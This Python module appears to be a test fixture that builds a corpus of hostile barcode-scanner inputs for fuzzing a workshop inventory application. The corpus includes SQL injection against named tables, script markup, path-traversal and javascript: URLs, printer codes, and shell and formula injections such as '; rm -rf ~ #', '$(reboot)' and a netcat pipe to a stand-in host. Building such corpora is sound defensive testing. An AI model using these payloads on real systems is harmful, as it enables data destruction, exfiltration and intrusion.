# SPDX-License-Identifier: MIT
"""Codes nobody means well with: what a scanner can be made to type to do harm.

Enter and Tab are in none of them: they end a scan, and what follows would be another one. Nor is
one shorter than four characters, which the scanner's rules take for typing.
"""

from collections.abc import Callable, Iterator

from workshop.domain.command import COMMANDS, command_text

CONTROLS = [
    chr(code) for code in (*range(0x20), 0x7F, *range(0x80, 0xA0)) if chr(code) not in "\t\r"
]
UNSEEN = [
    *map(chr, range(0x200B, 0x2010)), *map(chr, range(0x202A, 0x202F)),
    *map(chr, range(0x2060, 0x2070)), "\u061c", "\u00ad", "\u180e", "\ufff9", "\U000e0041",
]  # fmt: skip

# Ctrl+Z, Ctrl+Q, Ctrl+F and Ctrl+R are keys of this window; Escape and Enter those of dialogs;
# a blank presses the button that has the keyboard; plus, minus and 0 zoom a board.
KEYS = [
    "[)>\x1e06\x1d1TLOT\x1aUNDO\x11QUIT\x06FIND\x12\x1e\x04",
    "\x1a\x1a\x1a\x1a\x11\x11",
    "ab \x1b\x1b  \x1b cd",
    "+0-+0- 1234 ++",
    "\x04\x06\x0b\x10\x17",
    "   <  >   ",
]
MARKUP = [
    "<b>1</b>", "<img src=x>", "<img src='file:///etc/hostname'>", "<a href='http://x.test'>y</a>",
    "<script>alert(1)</script>", "<table><tr><td>1</table>", "<h1>Refused", "&lt;b&gt;",
    "<qt><b>x</b></qt>", "<!--", "<![CDATA[x]]>", "<?xml version='1.0'?>", "<para>x</para>",
    "<font color=white>x</font>", "<style>*{}</style>", "<br/><br/>", "]]></a>",
]  # fmt: skip
SQL = [
    "'; DROP TABLE {table}; --", "' OR '1'='1", "\"; DELETE FROM {table}; --",
    "1); UPDATE {table} SET id=0; --", "' UNION SELECT * FROM {table} --", "{table}';VACUUM;--",
]  # fmt: skip
TABLES = [
    "piece",
    "journal",
    "identifier",
    "visit",
    "person",
    "workshop",
    "label",
    "mention",
    "receiving",
    "photo",
]
PRINTERS = [
    "^XA^FO50,50^FDx^FS^XZ", "~JR", "^XA^ID*.*^XZ", "~DG000.GRF,1,1,00", "^XZ^XA", "~HS", "\x02L",
    "N\nP1\n", "^GB100,100,100^FS", "! 0 200 200 210 1", "\x1b@\x1bi", "<<</Size 1>>stream",
]  # fmt: skip
ADDRESSES = [
    "http://127.0.0.1:9/x?a=1", "https://evil.test/<b>", "file:///etc/passwd?<b>",
    "javascript:alert(1)", "data:text/html,<b>x</b>", "ftp://x.test/a;type=i",
    "\\\\server\\share\\x", "C:\\Windows\\x.exe",
    "../../../../etc/passwd*", "ssh://-oProxyCommand=x", "mailto:a@x.test?subject=<b>",
    "ldap://x.test/a?b", "WIFI:T:WPA;S:x;P:y;;", "tel:*%2306%23", "BEGIN:VCARD\nN:<b>\nEND:VCARD",
]  # fmt: skip
FORMATS = [
    "{0.__class__.__mro__}", "{text.__init__.__globals__}", "%s%s%s%n", "%(x)s",
    "${{jndi:ldap://x}}", "$(reboot)", "`reboot`", "; rm -rf ~ #", "| nc x.test 9 > /x",
    "=cmd|' /C calc'!A0", "@SUM(1+1)*2",
    "=HYPERLINK(\"http://x.test\")", "+1+cmd|'x'!A1", "{{7*7}}", "<%= 7*7 %>", "\\N{{BULLET}}\\x00",
]  # fmt: skip
LONG = ["M9YV" * 1024, "<" * 4096, "\x1a" * 4096, "显" * 4096]


def _forged() -> Iterator[str]:
    """What looks like a command code: of another workshop, cut, doubled, signed by guessing."""
    for action in COMMANDS:
        code = command_text("another workshop", action)
        bare = code.rpartition("-")[0]
        yield from (code, code.lower(), bare, f"{bare}-", f"{bare}-000000", f"{bare}-ZZZZZZ")
        yield from (f"{code}X", code[:-1], f"!{code}", f"{bare}-{action[:6].upper():0<6}")
        yield from (f"{code} {code}", f"{bare}--{code[-6:]}", f"]Q3{code}", f"{code}\x1d{code}")


def _inside(what: str) -> Iterator[str]:
    """A character at the beginning, in the middle and at the end of what looks like a serial.

    None begins with DEL, which is a hand's as a key of its own, or with a line feed, which some
    scanners send after Enter.
    """
    yield from (f"M9{what}YVCM#1", f"M9YV*CM{what}", f"<{what}>", f"S/N: {what}M9YVCM?")
    if what not in "\x7f\n":
        yield f"{what}{what}M9YV?CM"


def hostile_codes() -> dict[str, list[str]]:
    """Every code by its sort; more than two thousand in all, no two the same."""
    around: list[Callable[[str], str]] = [
        str,
        lambda code: f"S/N: {code}",
        lambda code: f"CWL-{code}",
        lambda code: f"(01)04012345123456(21){code}\u202e",
        lambda code: f"[)>\x1e06\x1dS{code}\x1e\x04",
        lambda code: f"CWP-{code}",
        lambda code: f"]d2\x1d21{code}",
        lambda code: f"C01-00773K-7{code}",
        lambda code: f"{code}\x1a\x11\x1b",
    ]
    sorts = {
        "control characters": [one for what in CONTROLS for one in _inside(what)],
        "unseen characters": [one for what in UNSEEN for one in _inside(what)],
        "keys": KEYS,
        "markup": [wrap(code) for code in MARKUP for wrap in around],
        "SQL": [wrap(code.format(table=t)) for code in SQL for t in TABLES for wrap in around],
        "printers": [wrap(code) for code in PRINTERS for wrap in around],
        "addresses": [wrap(code) for code in ADDRESSES for wrap in around],
        "formats": [wrap(code.replace("{{", "{").replace("}}", "}")) for code in FORMATS
                    for wrap in around],
        "forged commands": list(_forged()),
        "both at once": [f"{one}{other}" for one in MARKUP for other in (*FORMATS, *ADDRESSES)],
        "long": LONG,
    }  # fmt: skip
    return {
        name: [code for code in dict.fromkeys(codes) if len(code) >= 4]
        for name, codes in sorts.items()
    }
